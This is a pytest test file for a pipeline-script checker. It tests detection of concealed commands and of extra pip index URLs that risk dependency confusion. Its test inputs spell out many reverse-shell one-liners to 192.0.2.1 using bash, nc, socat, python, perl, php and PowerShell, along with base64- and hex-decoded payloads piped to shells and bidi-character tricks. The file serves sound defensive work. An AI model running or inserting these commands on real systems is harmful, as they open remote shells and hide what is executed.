"""Scripts that hide what they run, and indexes that a public one can answer for."""

from __future__ import annotations

import pytest

from pipelaw.facts.concealment import concealed
from pipelaw.facts.confusion import confused
from pipelaw.facts.shells import SHELLS
from pipelaw.model import Script, Variable
from pipelaw.place import NOWHERE, Text


def script(text: str) -> Script:
    return Script(text=text, source_text=Text(text, ((0, NOWHERE),)))


@pytest.mark.parametrize(
    "text",
    [
        "echo aGk= | base64 -d | sh",
        'echo "$X" | base64 --decode | sudo bash -s',
        "base64 -d a | gunzip | bash",
        "echo aGk= | base64 -d | sudo python3",
        'sudo python3 -c "$(echo aGk= | base64 -d)" | tr -d x',
        'node -e "$(base64 -d <<< aGk=)"',
        "bash <(base64 -d <<< aGk=)",
        'eval "$(echo aGk= | base64 -d)"',
        "bash -c `base64 -d < a`",
        "python3 -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\"",
        "node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\"",
        "bash -c \"$(printf '\\x65\\x63\\x68\\x6f\\x20\\x31')\"",
        "printf '\\x65\\x63\\x68\\x6f' | sh",
        "powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
        "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SQBFAFgA')))",
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "exec 5<>/dev/tcp/192.0.2.1/4444",
        "nc 192.0.2.1 4444 -e /bin/sh",
        "ncat --exec /bin/bash 192.0.2.1 4444",
        "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f",
        "nc 192.0.2.1 4444 | bash",
        "telnet 192.0.2.1 4444 | /bin/sh | telnet 192.0.2.1 4445",
        "socat TCP:192.0.2.1:4444 EXEC:'bash -li',pty,stderr",
        "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
        'perl -e \'use Socket; connect(S,1); open(STDIN,">&S"); exec("/bin/sh -i");\'',
        'php -r \'$s=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
        "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444); $d = iex $x",
        "echo 6c73 | xxd -r -p | sh",
        "echo 'sl' | rev | bash",
        "echo done \u202e # }tixe; { &&",
        "make \u2066# checked\u2069",
    ],
)
def test_what_nobody_can_read(text: str) -> None:
    assert [flaw.kind for flaw in concealed([script(f"make\n{text}\n")])] == ["concealed"]


@pytest.mark.parametrize(
    "text",
    [
        "# echo aGk= | base64 -d | sh",
        "echo '\u0645\u0631\u062d\u0628\u0627 \u200f \U0001f469\u200d\U0001f4bb'",
        'echo "$KUBECONFIG" | base64 -d > ~/.kube/config',
        "base64 -d a | gpg --import",
        "base64 -d a | python3 -m json.tool",
        "base64 -d a | python3 -c 'import sys; print(sys.stdin.read())'",
        'source <(echo "$SETTINGS" | base64 -d)',
        "python3 -c \"import base64, os; print(base64.b64decode(os.environ['X']))\"",
        "node -e \"console.log(Buffer.from('eA==', 'base64').toString())\"",
        "printf '\\x1b[31mred'",
        "echo 6563686f | xxd -r -p > key.bin",
        "[IO.File]::WriteAllBytes('cert.pfx', [Convert]::FromBase64String($env:CERT))",
        "pwsh -ExecutionPolicy Bypass -File build.ps1",
        "base64 -d a > b; sh build.sh",
        "base64 -d a | sh256sum",
        "(echo > /dev/tcp/db/5432) 2>/dev/null",
        "nc -z db 5432",
        "nc -zv db 5432 -c",
        "nc -z db 5432 && sh migrate.sh",
        "nc 127.0.0.1 8125 | grep -q ok",
        "socat TCP-LISTEN:2375,fork UNIX-CONNECT:/var/run/docker.sock",
        "docker run -it alpine /bin/sh -i",
        "echo 6563686f | xxd -r -p | gpg --import",
        "Test-NetConnection db; (New-Object Net.Sockets.TcpClient('db', 5432)).Close()",
    ],
)
def test_what_is_usual(text: str) -> None:
    assert concealed([script(text)]) == ()


@pytest.mark.parametrize(
    ("text", "count"),
    [
        ("pip install --extra-index-url https://packages.acme.example/simple a", 1),
        ('pip install --extra-index-url="https://x:$TOKEN@packages.acme.example/simple" a', 1),
        ("uv pip install --extra-index-url $INDEX_URL a", 0),  # nobody knows which
        ("pip install --extra-index-url https://download.pytorch.org/whl/cpu torch", 0),
        ("# pip install --extra-index-url https://packages.acme.example a", 0),
        ("pip install --index-url https://packages.acme.example/simple a", 0),
    ],
)
def test_two_indexes(text: str, count: int) -> None:
    assert len(confused([script(text)])) == count


@pytest.mark.parametrize(
    ("name", "value", "count"),
    [
        ("PIP_EXTRA_INDEX_URL", "https://packages.acme.example/simple", 1),
        ("PIP_EXTRA_INDEX_URL", "https://download.pytorch.org/whl/cpu", 0),
        ("PIP_EXTRA_INDEX_URL", "", 0),
        ("PIP_INDEX_URL", "https://packages.acme.example/simple", 0),
    ],
)
def test_two_indexes_by_a_variable(name: str, value: str, count: int) -> None:
    assert len(confused((), [Variable(name=name, value=value)])) == count


@pytest.mark.parametrize("shell", sorted(SHELLS))
def test_every_shell_can_hide_what_it_runs(shell: str) -> None:
    texts = [
        f"base64 -d a | {shell}",
        f"/bin/{shell} -i >& /dev/tcp/192.0.2.1/1 0>&1",
        f"nc -e /bin/{shell} 192.0.2.1 1",
    ]
    assert [len(concealed([script(text)])) for text in texts] == [1, 1, 1]
